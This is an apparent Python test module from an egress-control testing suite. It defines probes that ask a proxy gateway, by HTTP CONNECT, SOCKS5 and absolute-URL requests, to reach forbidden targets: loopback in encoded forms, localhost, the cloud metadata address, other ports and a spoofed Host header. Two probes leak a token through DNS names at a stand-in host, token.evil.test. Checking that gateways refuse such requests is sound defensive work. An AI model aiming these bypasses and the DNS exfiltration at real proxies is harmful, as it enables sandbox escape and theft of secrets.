"""The gateway asked, by every door, for what it must refuse (A2, A3, A9, D1, D5, E5)."""

from __future__ import annotations

import socket
from collections.abc import Callable

from exeat.attack.model import EVERYWHERE, Group, Scene, need, need_our_resolver
from exeat.attack.moves import authority_of, say_absolute, say_connect, say_socks

GROUP = Group("proxy", "asking the gateway", EVERYWHERE)


def _connect(id: str, title: str, authority: Callable[[Scene], str]) -> None:  # noqa: A002 - it is the id
    GROUP.probe(id, title)(lambda scene: say_connect(scene, authority(scene)))


def _socks(id: str, title: str, address: Callable[[Scene], bytes], key: str = "v4") -> None:  # noqa: A002
    GROUP.probe(id, title)(lambda scene: say_socks(scene, address(scene), need(scene.tcp, key)[1]))


def _port(scene: Scene) -> int:
    return scene.tcp["v4"][1]


def _mapped(scene: Scene) -> str:
    need(scene.tcp, "v6")
    return f"[::ffff:127.0.0.1]:{_port(scene)}"


_connect("E5.connect4", "CONNECT 127.0.0.1", lambda scene: f"127.0.0.1:{_port(scene)}")
_connect("E5.connect6", "CONNECT [::1]", lambda scene: f"[::1]:{need(scene.tcp, 'v6')[1]}")
_connect("A3.connect-mapped", "CONNECT [::ffff:127.0.0.1]", _mapped)
# Where the name means ::1 first, that address is asked for: both ports are sinks.
_connect("D5.connect-localhost", "CONNECT localhost", lambda scene: f"localhost:{_port(scene)}")
_connect("A2.connect-decimal", "CONNECT 2130706433 (127.0.0.1 as one number)", lambda s: f"2130706433:{_port(s)}")
_connect("A2.connect-hex", "CONNECT 0x7f.1", lambda scene: f"0x7f.1:{_port(scene)}")
_connect("A2.connect-short", "CONNECT 127.1", lambda scene: f"127.1:{_port(scene)}")
_connect("A5.connect-own", "CONNECT to the machine's own address", lambda s: authority_of(need(s.tcp, "own4")))
_connect("A3.connect-metadata", "CONNECT 169.254.169.254", lambda s: authority_of(need(s.tcp, "metadata")))
_connect("A9.connect-port", "CONNECT to the allowed host, another port", lambda s: f"{s.allowed[0]}:{_port(s)}")


def _name(name: str) -> bytes:
    """A host name as SOCKS5 has it."""
    return b"\x03" + bytes([len(name)]) + name.encode()


_socks("A9.socks-port", "SOCKS5 to the allowed host, another port", lambda scene: _name(scene.allowed[0]))
_socks("E5.socks4", "SOCKS5 to 127.0.0.1", lambda _: b"\x01" + socket.inet_aton("127.0.0.1"))
_socks("E5.socks6", "SOCKS5 to ::1", lambda _: b"\x04" + socket.inet_pton(socket.AF_INET6, "::1"), "v6")
_socks("D5.socks-localhost", "SOCKS5 to localhost", lambda _: _name("localhost"))


@GROUP.probe("E5.absolute", "GET http://127.0.0.1/ as a proxy's client")
def absolute(scene: Scene) -> str:
    return say_absolute(scene, f"127.0.0.1:{_port(scene)}")


@GROUP.probe("B1.absolute-host", "a forbidden URL with the allowed name in its Host header")
def absolute_host(scene: Scene) -> str:
    return say_absolute(scene, f"127.0.0.1:{_port(scene)}", host=scene.allowed[0])


@GROUP.probe("D1.connect-name", "data in a name: CONNECT token.evil.test")
def connect_name(scene: Scene) -> str:
    need_our_resolver(scene)
    return say_connect(scene, f"{scene.token}.evil.test:443")


@GROUP.probe("D1.socks-name", "data in a name: SOCKS5 to token.evil.test")
def socks_name(scene: Scene) -> str:
    need_our_resolver(scene)
    return say_socks(scene, _name(f"{scene.token}.evil.test"), 443)
